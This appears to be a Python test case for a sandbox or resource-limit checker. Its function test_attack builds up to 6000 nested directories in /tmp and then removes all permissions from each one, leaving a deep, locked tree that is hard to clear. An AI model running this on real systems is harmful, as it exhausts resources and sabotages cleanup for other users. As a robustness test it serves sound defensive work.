# kind: R  timeout: 15   folders deeper than any path and than any recursion, locked, for whoever has to clear them away
import os


def test_attack():
    os.chdir("/tmp")
    depth = 0
    try:
        while depth < 6000:
            os.mkdir("d")
            os.chdir("d")
            depth += 1
    except OSError as error:
        os.write(1, f"stop {error}\n".encode())
    os.write(1, f"INODES {depth}\n".encode())
    for _ in range(depth):
        try:
            os.chmod(".", 0)
            os.chdir("..")
        except OSError:
            break
